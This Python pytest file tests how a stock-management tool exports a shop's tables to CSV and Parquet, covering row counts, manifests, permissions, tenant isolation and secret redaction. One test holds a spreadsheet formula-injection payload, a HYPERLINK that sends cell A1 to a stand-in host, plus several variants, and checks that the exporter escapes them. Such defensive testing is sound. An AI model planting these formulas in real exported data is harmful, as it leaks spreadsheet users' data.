"""A shop as a folder of tables, on both databases."""

from __future__ import annotations

import csv
import hashlib
import json
import stat
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from sqlalchemy import Engine, text

from stockcli.domain.errors import ConflictError, DatabaseError, InvalidInputError
from stockcli.persistence.database import Database
from stockcli.persistence.upkeep.exporting import MANIFEST, OPERATORS_ONLY, Manifest
from stockcli.persistence.upkeep.service import Upkeep
from stockcli.persistence.upkeep.table_files import from_text
from tests.integration.upkeep.conftest import FULL, OTHER, rows_of
from tests.integration.upkeep.test_export import OF_SHOPS

FORMULA = '=HYPERLINK("http://x/?"&A1)'
ODD = ["'" + FORMULA, "+1", " @SUM(A1)", "-2+3", "\uff1d1", "\t=1", "'quoted'", 'a "b", c', "x\ny"]


def exported(
    upkeep: Upkeep, database: Database, folder: Path, form: str = "csv", **options: Any
) -> Manifest:
    shop = database.directory().tenant(options.pop("slug", FULL))
    return upkeep.export_tables(shop, folder, form=form, **options)


def rows(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8", newline="") as opened:
        return list(csv.DictReader(opened))


def parquet(file: Path, sql: str = "*") -> list[tuple[Any, ...]]:
    with duckdb.connect() as connection:
        return connection.read_parquet(str(file)).project(sql).fetchall()


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_every_table_leaves_with_every_row(
    upkeep: Upkeep, database: Database, raw: Engine, tmp_path: Path, form: str
) -> None:
    folder = tmp_path / "tables"
    manifest = exported(upkeep, database, folder, form)
    written = OF_SHOPS - OPERATORS_ONLY
    assert {one.name for one in folder.iterdir()} == {
        MANIFEST,
        *(f"{name}.{form}" for name in written),
    }
    there = {name: len(found) for name, found in rows_of(raw, FULL).items() if name in written}
    told = {name.removesuffix(f".{form}"): facts["rows"] for name, facts in manifest.files.items()}
    assert told == there
    for name, count in there.items():
        file = folder / f"{name}.{form}"
        found = len(rows(file)) if form == "csv" else parquet(file, "count(*)")[0][0]
        assert found == count, name


def test_the_manifest_is_true_and_all_is_private(
    upkeep: Upkeep, database: Database, tmp_path: Path
) -> None:
    folder = tmp_path / "tables"
    exported(upkeep, database, folder)
    manifest = json.loads((folder / MANIFEST).read_text())
    assert manifest["tenant"] == FULL
    assert manifest["left_out"] == [
        *("api_token", "token_rate"),
        *("supplier.webhook_url", "tenant.policy.notify_urls"),
    ]
    for name, facts in manifest["files"].items():
        content = (folder / name).read_bytes()
        assert hashlib.sha256(content).hexdigest() == facts["sha256"], name
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_no_row_of_another_shop_leaves(upkeep: Upkeep, database: Database, tmp_path: Path) -> None:
    exported(upkeep, database, tmp_path / "tables", slug=OTHER)
    everything = "".join(one.read_text() for one in (tmp_path / "tables").iterdir())
    assert "Neighbour" not in everything
    owners = {
        row["tenant_id"]
        for file in (tmp_path / "tables").glob("*.csv")
        for row in rows(file)
        if "tenant_id" in row
    }
    assert len(owners) == 1


def test_codes_stand_beside_numbers(upkeep: Upkeep, database: Database, tmp_path: Path) -> None:
    exported(upkeep, database, tmp_path / "tables")
    (level, *_) = rows(tmp_path / "tables" / "stock_level.csv")
    (product, *_) = (
        one for one in rows(tmp_path / "tables" / "product.csv") if one["id"] == level["product_id"]
    )
    assert level["sku"] == product["sku"]
    (line, *_) = rows(tmp_path / "tables" / "purchase_order_line.csv")
    assert line["order_number"].startswith("PO-")


def test_numbers_keep_their_places_and_kinds(
    upkeep: Upkeep, database: Database, tmp_path: Path
) -> None:
    exported(upkeep, database, tmp_path / "csv")
    exported(upkeep, database, tmp_path / "parquet", "parquet")
    told = {row["change"] for row in rows(tmp_path / "csv" / "stock_movement.csv")}
    assert told == {"70.000", "-7.000", "-3.000"}
    file = tmp_path / "parquet" / "stock_movement.parquet"
    assert {change for (change,) in parquet(file, "change")} == {
        Decimal("70.000"),
        Decimal("-7.000"),
        Decimal("-3.000"),
    }
    kinds = parquet(file, "typeof(change), typeof(day), typeof(occurred_at), typeof(note)")
    assert kinds[0] == ("DECIMAL(19,3)", "DATE", "TIMESTAMP WITH TIME ZONE", "VARCHAR")


def test_secrets_stay_where_they_are(
    upkeep: Upkeep, database: Database, raw: Engine, tmp_path: Path
) -> None:
    with raw.begin() as connection:
        connection.execute(text("UPDATE supplier SET webhook_url = 'https://x/HUSHHUSH'"))
        policy = json.dumps({"notify_urls": ["mailto://a:HUSHHUSH@x"], "service_level": 0.9})
        connection.execute(text("UPDATE tenant SET policy = :policy"), {"policy": policy})
    exported(upkeep, database, tmp_path / "tables")
    assert not any("HUSHHUSH" in one.read_text() for one in (tmp_path / "tables").iterdir())
    (shop,) = rows(tmp_path / "tables" / "tenant.csv")
    assert json.loads(shop["policy"]) == {"service_level": 0.9}


def test_text_that_looks_like_a_formula_is_marked_and_can_be_had_back(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    names = [FORMULA, *ODD]
    with sqlite_database._engine.begin() as connection:
        ids = [row[0] for row in connection.exec_driver_sql("SELECT id FROM product ORDER BY id")]
        shop = sqlite_database.directory().tenant(FULL).id
        for number, name in enumerate(names, start=1):
            new = (
                "INSERT INTO product (tenant_id, sku, name, category, status, unit_cost, "
                "unit_price, pack_size, minimum_order_quantity) "
                "VALUES (?, ?, ?, '', 'active', 0, 0, 1000, 1000)"
            )
            connection.exec_driver_sql(new, (shop, f"ODD{number}", name))
    assert ids
    exported(sqlite_upkeep, sqlite_database, tmp_path / "csv")
    found = {
        row["sku"]: row["name"]
        for row in rows(tmp_path / "csv" / "product.csv")
        if row["sku"].startswith("ODD")
    }
    assert found["ODD1"] == "'" + FORMULA
    assert not [name for name in found.values() if name.lstrip()[:1] in set("=+-@\uff1d")]
    assert [from_text(found[f"ODD{number}"]) for number in range(1, len(names) + 1)] == names
    exported(sqlite_upkeep, sqlite_database, tmp_path / "parquet", "parquet")
    kept = dict(parquet(tmp_path / "parquet" / "product.parquet", "sku, name"))
    assert [kept[f"ODD{number}"] for number in range(1, len(names) + 1)] == names


def test_nothing_and_an_empty_text_are_told_apart(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    with sqlite_database._engine.begin() as connection:
        connection.exec_driver_sql("UPDATE product SET category = '', maximum_stock = NULL")
    exported(sqlite_upkeep, sqlite_database, tmp_path / "csv")
    head, *lines = (tmp_path / "csv" / "product.csv").read_text().splitlines()
    names = head.split(",")
    for line in lines:
        cells = dict(zip(names, line.split(","), strict=True))
        assert (cells["category"], cells["maximum_stock"]) == ('""', "")
    exported(sqlite_upkeep, sqlite_database, tmp_path / "parquet", "parquet")
    found = parquet(tmp_path / "parquet" / "product.parquet", "maximum_stock, category")
    assert set(found) == {(None, "")}


def test_files_that_are_there_are_not_replaced_unasked(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    (tmp_path / "product.csv").write_text("mine")
    (tmp_path / "notes.txt").write_text("mine too")
    with pytest.raises(ConflictError, match=r"product\.csv already"):
        exported(sqlite_upkeep, sqlite_database, tmp_path)
    assert (tmp_path / "product.csv").read_text() == "mine"
    assert not (tmp_path / MANIFEST).exists()
    exported(sqlite_upkeep, sqlite_database, tmp_path, replace=True)
    assert rows(tmp_path / "product.csv")
    assert (tmp_path / "notes.txt").read_text() == "mine too"
    assert not [one for one in tmp_path.iterdir() if one.name.startswith(".export")]


def test_a_file_is_no_folder_and_a_folder_needs_a_place(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("mine")
    for folder in (tmp_path / "file", tmp_path / "no" / "such"):
        with pytest.raises(InvalidInputError, match="cannot be a folder"):
            exported(sqlite_upkeep, sqlite_database, folder)


def test_a_row_that_cannot_be_read_leaves_nothing_behind(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    with sqlite_database._engine.begin() as connection:
        connection.exec_driver_sql("UPDATE threshold SET computed_for = 'never'")
    with pytest.raises(DatabaseError, match="a row of threshold cannot be read"):
        exported(sqlite_upkeep, sqlite_database, tmp_path / "tables")
    assert not (tmp_path / "tables").exists()


def test_progress_is_told_table_by_table(
    sqlite_upkeep: Upkeep, sqlite_database: Database, tmp_path: Path
) -> None:
    told: list[tuple[str, int, int]] = []
    exported(
        sqlite_upkeep, sqlite_database, tmp_path / "t", on_rows=lambda *step: told.append(step)
    )
    last = {name: (done, total) for name, done, total in told}
    assert last.keys() == OF_SHOPS - OPERATORS_ONLY
    assert all(done == total for done, total in last.values())
